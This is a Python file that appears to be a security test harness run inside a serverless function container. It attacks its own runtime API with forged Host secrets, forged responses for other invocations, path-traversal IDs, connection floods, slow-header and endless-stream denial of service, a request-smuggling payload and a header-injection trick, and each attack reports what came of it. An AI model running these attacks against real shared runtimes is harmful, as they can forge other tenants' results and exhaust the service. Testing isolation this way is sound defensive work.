"""A function that turns on the runtime API, from inside its container; each attack says what came of it."""

import os
import re
import socket
import time
from collections.abc import Callable
from typing import Any

Json = dict[str, Any]
BASE = "/2018-06-01/runtime"
STRANGER = "a" * 32 + ".qm.internal"


def handler(event: Json, context: Any) -> Any:
    """Do what the event names."""
    attack: Callable[..., Any] = globals()[event["attack"]]
    return attack(context.aws_request_id, **event.get("with", {}))


def own_host() -> str:
    return os.environ["AWS_LAMBDA_RUNTIME_API"]


def connect(timeout: float = 5) -> socket.socket:
    host, port = own_host().split(":")
    return socket.create_connection((host, int(port)), timeout)


def read(connection: socket.socket, timeout: float = 5) -> str:
    """What comes, with the head of an answer."""
    connection.settimeout(timeout)
    came = b""
    try:
        while data := connection.recv(65536):
            came += data
            if b"\r\n\r\n" in came:
                break
    except OSError as error:
        return f"{came.decode(errors='replace')}{type(error).__name__}"
    return came.decode(errors="replace") or "closed"


def ask(method: str, path: str, host: str = "", body: bytes = b"", *lines: str, timeout: float = 5) -> str:
    """The first line of the answer to a request, or what became of its connection."""
    head = [f"{method} {path} HTTP/1.1", f"Host: {host or own_host()}", f"Content-Length: {len(body)}", *lines, "", ""]
    with connect() as connection:
        try:
            connection.sendall("\r\n".join(head).encode() + body)
        except OSError as error:
            return type(error).__name__
        return read(connection, timeout).split("\r\n")[0]


# Without a secret, or with another one


def poll_without_a_secret(call: str) -> list[str]:
    address = socket.gethostbyname(own_host().split(":")[0])
    return [ask("GET", f"{BASE}/invocation/next", host) for host in (address, "localhost", "qm.internal", "")[:3]]


def poll_with_another_secret(call: str) -> list[str]:
    own = own_host().split(".")[0]
    hosts = [STRANGER, f"{own[:-1]}x.qm.internal", f"{own}.other.internal", f"x.{own}.qm.internal"]
    return [ask("GET", f"{BASE}/invocation/next", host) for host in hosts]


def two_hosts(call: str) -> str:
    return ask("GET", f"{BASE}/invocation/next", STRANGER, b"", f"Host: {own_host()}", timeout=3)


def absolute_address(call: str) -> str:
    return ask("GET", f"http://{own_host()}{BASE}/invocation/next", STRANGER)


def init_error_of_another(call: str) -> str:
    return ask("POST", f"{BASE}/init/error", STRANGER, b"{}")


# With the own secret


def answer_for_another(call: str, victim: str) -> list[str]:
    forged = b'"forged"'
    return [
        ask("POST", f"{BASE}/invocation/{victim}/response", "", forged),
        ask("POST", f"{BASE}/invocation/{victim}/error", "", b'{"errorType": "Forged"}'),
        ask("POST", f"{BASE}/invocation/{victim}/response", STRANGER, forged),
    ]


def answer_made_up_calls(call: str) -> list[str]:
    ids = ["00000000-0000-4000-8000-000000000000", "..", "%2e%2e", "a/b", "", "x" * 4000]
    return [ask("POST", f"{BASE}/invocation/{each}/response", "", b'"forged"') for each in ids]


def answer_twice(call: str) -> str:
    ask("POST", f"{BASE}/invocation/{call}/response", "", b'"the first"')
    return "the second"


def other_paths(call: str) -> list[str]:
    paths = ["/status", "/functions", "/run", "/metrics", "/", f"{BASE}/../../status", f"{BASE}/invocation"]
    return [ask(method, path, "", b"{}") for path in paths for method in ("GET", "POST", "DELETE")]


def odd_methods(call: str) -> list[str]:
    return [ask(method, f"{BASE}/invocation/next") for method in ("PUT", "OPTIONS", "TRACE", "CONNECT", "FOO")]


def many_polls(call: str) -> int:
    """How many of a hundred questions at once stay open."""
    request = f"GET {BASE}/invocation/next HTTP/1.1\r\nHost: {own_host()}\r\n\r\n".encode()
    connections = []
    for _ in range(100):
        try:
            connections.append(connect())
            connections[-1].sendall(request)
        except OSError:
            break
    time.sleep(1)
    return sum(is_open(each) for each in connections)


def is_open(connection: socket.socket) -> bool:
    connection.settimeout(0.05)
    try:
        return bool(connection.recv(1))
    except TimeoutError:
        return True
    except OSError:
        return False


# Floods, and what is large or slow


def silent_connections(call: str) -> int:
    """How many of 1,100 connections that say nothing are open after a while."""
    connections = []
    for _ in range(1100):
        try:
            connections.append(connect(1))
        except OSError:
            break
    time.sleep(4)
    return sum(is_open(each) for each in connections)


def flood(call: str) -> int:
    """So many requests of nobody."""
    until, done = time.monotonic() + 3, 0
    while time.monotonic() < until:
        ask("GET", f"{BASE}/invocation/next", STRANGER)
        done += 1
    return done


def large_answer(call: str) -> str:
    return ask("POST", f"{BASE}/invocation/{call}/response", "", b"x" * 100_000_000)


def large_answer_of_nobody(call: str) -> str:
    return ask("POST", f"{BASE}/invocation/{call}/response", STRANGER, b"x" * 100_000_000)


def large_head(call: str) -> str:
    return ask("GET", f"{BASE}/invocation/next", "", b"", *(f"X-{number}: {'x' * 60_000}" for number in range(100)))


def slow_head(call: str) -> float:
    """Seconds until a connection that sends its head byte by byte is closed."""
    began = time.monotonic()
    with connect() as connection:
        for byte in f"GET {BASE}/invocation/next HTTP/1.1\r\nHost: {own_host()}".encode() * 5:
            try:
                connection.sendall(bytes([byte]))
                connection.settimeout(0.2)
                if not connection.recv(1):
                    break
            except TimeoutError:
                continue
            except OSError:
                break
    return time.monotonic() - began


def slow_answer(call: str) -> str:
    """An answer that never ends."""
    head = f"POST {BASE}/invocation/{call}/response HTTP/1.1\r\nHost: {own_host()}\r\nContent-Length: 1000\r\n\r\n"
    with connect() as connection:
        connection.sendall(head.encode())
        while True:
            connection.sendall(b"x")
            time.sleep(0.5)


def endless_stream(call: str) -> str:
    """A streamed answer that never ends."""
    lines = [
        f"POST {BASE}/invocation/{call}/response HTTP/1.1",
        f"Host: {own_host()}",
        "Lambda-Runtime-Function-Response-Mode: streaming",
        "Content-Type: text/plain",
        "Transfer-Encoding: chunked",
    ]
    with connect() as connection:
        connection.sendall("\r\n".join([*lines, "", ""]).encode())
        while True:
            connection.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")


def smuggled(call: str, victim: str) -> str:
    """A request within a request, whose two lengths differ."""
    inner = (
        f'POST {BASE}/invocation/{victim}/response HTTP/1.1\r\nHost: {own_host()}\r\nContent-Length: 8\r\n\r\n"forged"'
    )
    lines = f"POST {BASE}/init/error HTTP/1.1\r\nHost: {own_host()}\r\n"
    lengths = f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    with connect() as connection:
        connection.sendall((lines + lengths + inner).encode())
        return read(connection, 2).split("\r\n")[0]


def header_in_content_type(call: str) -> str:
    """A content type that would add a header to the caller's answer."""
    head = f"POST {BASE}/invocation/{call}/response HTTP/1.1\r\nHost: {own_host()}\r\nContent-Length: 2\r\n"
    with connect() as connection:
        connection.sendall(f"{head}Content-Type: text/html\x0bX-Forged: yes\rSet-Cookie: a=b\r\n\r\n{{}}".encode())
        said = read(connection, 2).split("\r\n")[0]
    time.sleep(30 if re.search(" 202", said) else 0)
    return said
